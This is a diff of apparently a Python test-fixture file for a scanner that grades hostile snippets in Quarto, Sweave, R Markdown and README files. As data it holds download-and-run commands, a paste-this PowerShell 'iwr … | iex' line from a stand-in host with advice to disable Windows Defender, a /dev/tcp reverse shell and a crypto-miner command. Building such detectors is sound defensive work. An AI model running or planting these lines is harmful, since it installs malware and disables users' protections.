@@ -59,6 +59,9 @@ _TOLD = (
     ("quarto", "a chunk of Quarto in Python", "report.qmd", f"```{{python}}\nimport os\nos.system('{_FETCH}')\n```\n"),
     ("quarto-source", "a chunk of Quarto that runs a script of R from elsewhere", "report.qmd", f"```{{r}}\nsource('http://{_HOST}/x.R')\n```\n"),
     ("sweave", "a chunk of Sweave", "report.Rnw", f"<<setup>>=\nsystem('{_FETCH}')\n@\n"),
+    ("locked", "a program in an archive with a password", "README.md", "Get model.zip (password 1234) and run `loader.exe` from it.\n"),
+    ("pasted", "a line to paste, where what protects the reader is switched off", "README.md",
+     "1. Press Win+R.\n2. Paste `powershell -w h -c \"iwr https://verify.hub-cdn.example/v.ps1 | iex\"`.\n3. If it complains, turn off Windows Defender.\n"),
     ("inline-r", "R within a sentence of R Markdown", "report.Rmd", f"x `r system('{_FETCH}')` y\n"),
 )  # fmt: skip
 #: The same for what is only worth a look.
@@ -66,7 +69,6 @@ _SHOWN = (
     ("private-shell", "a lesson about reverse shells, with a private address", "README.md", _fence("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")),
     ("miner", "a line that mines", "README.md", _fence("xmrig -o stratum+tcp://pool.example.net:3333")),
     ("unguarded", "asks to switch off what protects the reader", "README.md", "Please disable Windows Defender, then run `loader.exe`.\n"),
-    ("locked", "a program in an archive with a password", "README.md", "Get model.zip (password 1234) and run `loader.exe` from it.\n"),
 )  # fmt: skip
 _HARMLESS = (
     ("installer", "installers that everybody runs so", "README.md", _fence("curl -fsSL https://ollama.com/install.sh | sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh")),
